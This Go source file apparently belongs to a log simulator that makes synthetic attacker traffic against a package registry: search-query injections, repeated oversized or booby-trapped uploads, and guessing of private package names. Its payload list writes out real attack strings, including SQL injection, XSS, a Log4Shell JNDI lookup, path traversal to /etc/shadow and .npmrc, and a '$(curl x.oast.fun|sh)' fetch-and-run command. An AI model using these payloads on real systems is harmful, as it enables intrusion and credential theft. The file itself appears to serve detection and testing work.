package main

import (
	"math/rand/v2"
	"net/url"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// injection browses like a person, then puts payloads into search queries
// and package names between ordinary pages.
func (w *world) injection(r *rand.Rand) {
	a := w.attacker(r, "injection", homeV4, vpsV4)
	a.ua = browserUA(r)
	t, t1 := w.span(r)
	a.attack = false
	t = w.browse(r, a, t-Sec(Uniform(r, 20, 120)), 1+r.IntN(3))
	raw := strings.NewReplacer(" ", "+", "#", "%23", "&", "%26")
	for t < t1 {
		if Chance(r, 0.25) {
			a.attack = false
			t = w.browse(r, a, t, 1)
			continue
		}
		a.attack = true
		payload := EncodeQuery(r, Pick(r, payloads), raw, 0.4, 0.85)
		switch r.IntN(4) {
		case 0:
			t += a.send(t, a.get(r, "/search?q="+payload, Pick(r, []int{200, 400, 500}), int64(Uniform(r, 400, 30e3)), 80))
		case 1:
			t += a.send(t, a.get(r, "/-/v1/search?text="+payload+"&size=20", Pick(r, []int{200, 400}), int64(Uniform(r, 100, 3e3)), 60))
		case 2:
			t += a.send(t, a.get(r, "/package/"+payload, Pick(r, []int{404, 400}), 9e3, 30))
		default:
			t += a.send(t, a.get(r, "/"+payload+"/-/x-1.0.0.tgz", 404, 60, 10))
		}
		t += Sec(LogUniform(r, 0.5, 12))
	}
}

var payloads = []string{
	"' OR '1'='1", "\" OR 1=1--", "1; DROP TABLE packages--", "' UNION SELECT name,password FROM users--",
	"<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://x.oast.fun/a}",
	"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "$(curl x.oast.fun|sh)", "`id`", "{\"$gt\":\"\"}",
	"react' AND SLEEP(5)--", "lodash\"||(select pg_sleep(5))--", "%00../../.npmrc",
}

// maliciousUpload logs in with an account of its own and publishes
// oversized or booby-trapped versions again and again.
func (w *world) maliciousUpload(r *rand.Rand) {
	a := w.attacker(r, "upload", vpsV4, homeV4, cloudV4)
	a.ua = w.s.npm().ua(r, "")
	a.user = userName(r)
	t, t1 := w.span(r)
	a.attack = false
	t = w.login(r, a, t-Sec(Uniform(r, 10, 60)))
	a.attack = true
	name := Pick(r, stems) + "-" + Pick(r, stems) + "-" + Hex(r, 3)
	big := Chance(r, 0.5)
	for v := 1; t < t1; v++ {
		body, status := int64(LogUniform(r, 2e6, 40e6)), 200
		if big {
			body = int64(LogUniform(r, 60e6, 400e6))
			status = 413
			if body < 100e6 {
				status = 200
			}
		}
		h := a.upload(r, "PUT", "/"+name, status, body, LogUniform(r, 20, 120))
		t += a.send(t, h) + Sec(LogUniform(r, 4, 40))
		name = strings.TrimRight(name, "0123456789") + string(rune('0'+v%10))
	}
}

// enumeration guesses the names of a company's private packages, which
// answer 404 when they do not exist and 403 (or 401) when they do.
func (w *world) enumeration(r *rand.Rand) {
	a := w.attacker(r, "enumeration", vpsV4, homeV4, cloudV4)
	a.ua = Pick(r, []string{w.s.npm().ua(r, ""), "python-requests/2.32.3", "Go-http-client/1.1"})
	org := Pick(r, w.s.orgs)
	eco := w.s.npm()
	t, t1 := w.span(r)
	rate := LogUniform(r, 0.8, 8)
	for t < t1 {
		name := "@" + org + "/" + Pick(r, stems) + Pick(r, []string{"", "-client", "-sdk", "-config", "-ui", "-service", "-internal", "-utils"})
		status := 404
		for _, p := range eco.private {
			if p.name == name {
				status = Pick(r, []int{401, 403, 403})
			}
		}
		if status == 404 && Chance(r, 0.03) {
			status = 200
		}
		if Chance(r, 0.05) {
			t += a.send(t, a.get(r, "/-/org/"+org+"/package", 401, 90, 6))
		}
		path := "/" + url.PathEscape(name)
		t += a.send(t, a.get(r, path, status, 80, 10)) + Sec(r.ExpFloat64()/rate)
	}
}
